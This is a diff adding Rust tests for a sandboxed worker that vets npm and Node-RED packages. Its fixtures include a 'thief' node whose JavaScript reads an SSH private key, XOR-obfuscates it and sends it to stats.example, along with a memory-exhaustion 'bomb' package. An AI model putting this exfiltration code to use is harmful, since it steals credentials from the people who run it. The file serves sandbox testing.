@@ -1,26 +1,146 @@
 //! The vetting worker's walls: what is left to it, as root and without, and that it does its work behind them.
 
 use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::chown;
 use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
 use std::process::Command;
+use std::time::Duration;
 
-use test_support::data::binary;
+use bytes::Bytes;
+use node_vetting::closure::Closure;
+use node_vetting::engine::{Engine, Folder};
+use node_vetting::exercise::{Fact, Profile, exercise};
+use node_vetting::guest;
+use node_vetting::package::Package;
+use node_vetting::trace::End;
+use node_vetting::worker::{Client, WorkerError};
+use npm::{Algorithm, Config, Hasher, Places};
+use test_support::data::{binary, shared};
 
 use crate::support::USER;
 
 /// Runs something with the binary as the caller and, when that is root, as an ordinary user.
-fn as_everybody(check: impl Fn(Command)) {
-    check(Command::new(binary()));
+fn as_everybody(check: impl Fn(Command, Option<u32>)) {
+    check(Command::new(binary()), None);
     if nix::unistd::geteuid().is_root() {
         let mut ordinary = Command::new(binary());
         ordinary.uid(USER).gid(USER);
-        check(ordinary);
+        check(ordinary, Some(USER));
     }
+}
+
+/// The compiled image; made once on the machine.
+fn image() -> PathBuf {
+    let folder = Folder::open(&shared().join("vetting-engine")).expect("the folder of the engine");
+    let client =
+        npm::Client::new(Config::load(&Places::here().expect("places")).expect("npm's configuration"));
+    tokio::runtime::Runtime::new()
+        .expect("a runtime")
+        .block_on(guest::recipe().image(&folder, &client.expect("a client")))
+        .expect("an image")
+}
+
+/// A copy of the image that belongs to somebody.
+fn lent(image: &Path, to: Option<u32>) -> (tempfile::TempDir, PathBuf) {
+    let folder = tempfile::Builder::new()
+        .prefix("redhold-test-")
+        .tempdir()
+        .expect("a folder");
+    let copy = folder.path().join("one.image");
+    fs::copy(image, &copy).expect("a copy");
+    if let Some(uid) = to {
+        chown(&copy, Some(uid), Some(uid)).expect("given away");
+        chown(folder.path(), Some(uid), Some(uid)).expect("given away");
+    }
+    (folder, copy)
+}
+
+/// A node that reads a key when it is loaded and sends it away in disguise.
+fn thief() -> Closure {
+    let manifest = r#"{"name":"thief","version":"1.0.0","node-red":{"nodes":{"thief":"thief.js"}}}"#;
+    let code = "const key = require('fs').readFileSync('/home/operator/.ssh/id_ed25519', 'latin1');
+        const disguised = Buffer.from(key).map((byte) => byte ^ 90).toString('base64url');
+        require('https').get('https://stats.example/?' + disguised.slice(0, 400));
+        module.exports = (RED) => RED.nodes.registerType('thief', function (config) { RED.nodes.createNode(this, config); });";
+    let files = [("package.json", manifest), ("thief.js", code)];
+    let files: BTreeMap<String, Bytes> = files
+        .into_iter()
+        .map(|(path, text)| (path.to_owned(), Bytes::from(text)))
+        .collect();
+    let package = Package::from_files(files, Hasher::new(Algorithm::Sha512).finish()).expect("a package");
+    Closure::new(package, BTreeMap::new())
+}
+
+const CLIENT: Client = Client {
+    patience: Duration::from_secs(300),
+};
+
+#[test]
+fn a_worker_behind_its_walls_sees_what_anybody_sees() {
+    let image = image();
+    let here = exercise(
+        &Engine::open(&image).expect("an engine"),
+        &thief(),
+        &Profile::default(),
+    );
+    let here = here.expect("observations");
+    let flows = |fact: &Fact| matches!(fact, Fact::SecretDependent { act, configured: false } if act.contains("stats.example"));
+    assert!(here.seen.iter().any(|seen| flows(&seen.fact)), "{:?}", here.seen);
+    as_everybody(|mut command, owner| {
+        let (_folder, image) = lent(&image, owner);
+        command.arg("vet-worker").arg(&image).env_clear();
+        let there = CLIENT.exercise(command, &thief(), &Profile::default());
+        assert_eq!(there.expect("observations"), here);
+    });
+}
+
+#[test]
+fn a_bomb_ends_in_the_worker_and_not_in_the_host() {
+    let image = image();
+    let manifest = r#"{"name":"bomb","version":"1.0.0","main":"bomb.js"}"#;
+    let code = "const all = []; for (;;) all.push(Buffer.alloc(1 << 20, 1));";
+    let files = [("package.json", manifest), ("bomb.js", code)];
+    let files = files
+        .into_iter()
+        .map(|(path, text)| (path.to_owned(), Bytes::from(text)))
+        .collect();
+    let package = Package::from_files(files, Hasher::new(Algorithm::Sha512).finish()).expect("a package");
+    let closure = Closure::new(package, BTreeMap::new());
+    as_everybody(|mut command, owner| {
+        let (_folder, image) = lent(&image, owner);
+        command.arg("vet-worker").arg(&image);
+        let seen = CLIENT
+            .exercise(command, &closure, &Profile::default())
+            .expect("observations");
+        let base = seen.base().expect("a run");
+        assert_eq!(base.end, End::Spent("memory".to_owned()));
+    });
+}
+
+#[test]
+fn an_image_that_others_could_have_written_is_refused() {
+    let (folder, image) = lent(&image(), None);
+    let mode = |mode| {
+        fs::set_permissions(&image, std::os::unix::fs::PermissionsExt::from_mode(mode)).expect("a mode")
+    };
+    mode(0o666);
+    let mut command = Command::new(binary());
+    command.arg("vet-worker").arg(&image);
+    let error = CLIENT
+        .exercise(command, &thief(), &Profile::default())
+        .expect_err("it is refused");
+    let WorkerError::Died { said, .. } = &error else {
+        panic!("{error}")
+    };
+    assert!(said.contains("must belong to user"), "{said}");
+    drop(folder);
 }
 
 #[test]
 fn nothing_but_memory_and_threads_is_left() {
-    as_everybody(|mut command| {
+    as_everybody(|mut command, _| {
         let output = command
             .args(["probe", "vet-worker"])
             .output()
